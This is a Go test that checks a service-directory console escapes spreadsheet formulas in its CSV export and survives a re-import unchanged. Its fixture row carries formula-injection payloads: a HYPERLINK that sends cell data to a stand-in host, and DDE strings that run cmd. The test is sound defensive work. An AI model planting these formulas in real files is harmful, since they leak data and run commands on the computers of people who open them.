package console

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
)

// Cells that a spreadsheet would run as formulas (=, +, -, @, tab, CR at
// the start) are written with a leading apostrophe in the directory export;
// phone numbers and coordinates stay as they are, and importing the export
// again gives the same services back.
func TestDirectoryExportEscapesFormulas(t *testing.T) {
	e := newEnv(t)
	c := e.login("op")
	tok := e.csrf(c, "/console/directory")
	evil := csvHeader +
		`evil-1,"=HYPERLINK(""http://x.example/?""&A1;""click"")",health,public,Frascati,@SUM(1+1),41.8,-12.6,+39 06 1234567,,Mo-Fr 08:00-13:00,it,"+cmd|' /C calc'!A0",false,false,"-2+3+cmd|' /C calc'!A0"` + "\n"
	if code, body := e.upload(c, tok, "servizi.csv", evil); code != http.StatusOK {
		t.Fatalf("import: %d %.600s", code, body)
	}
	before, err := e.dir.Get(context.Background(), "evil-1")
	if err != nil {
		t.Fatal(err)
	}
	code, body := e.get(c, "/console/directory/export.csv")
	if code != http.StatusOK {
		t.Fatalf("export: %d", code)
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var row []string
	for _, r := range recs {
		if r[0] == "evil-1" {
			row = r
		}
	}
	if row == nil {
		t.Fatal("the service is not in the export")
	}
	for i, cell := range row {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "+39 06 1234567" && cell != "-12.6" {
			t.Errorf("column %s starts a formula: %q", recs[0][i], cell)
		}
	}
	if !strings.Contains(body, "+39 06 1234567") || !strings.Contains(body, "-12.6") {
		t.Error("a phone number or a coordinate was changed")
	}
	// Importing the export again changes nothing.
	if code, body := e.upload(c, tok, "export.csv", body); code != http.StatusOK {
		t.Fatalf("re-import: %d %.600s", code, body)
	}
	after, _ := e.dir.Get(context.Background(), "evil-1")
	if after.Name != before.Name || after.Address != before.Address || after.WhoCanUse != before.WhoCanUse || after.Descriptions["it"] != before.Descriptions["it"] {
		t.Fatalf("the round trip changed the service:\n%+v\n%+v", before, after)
	}
}
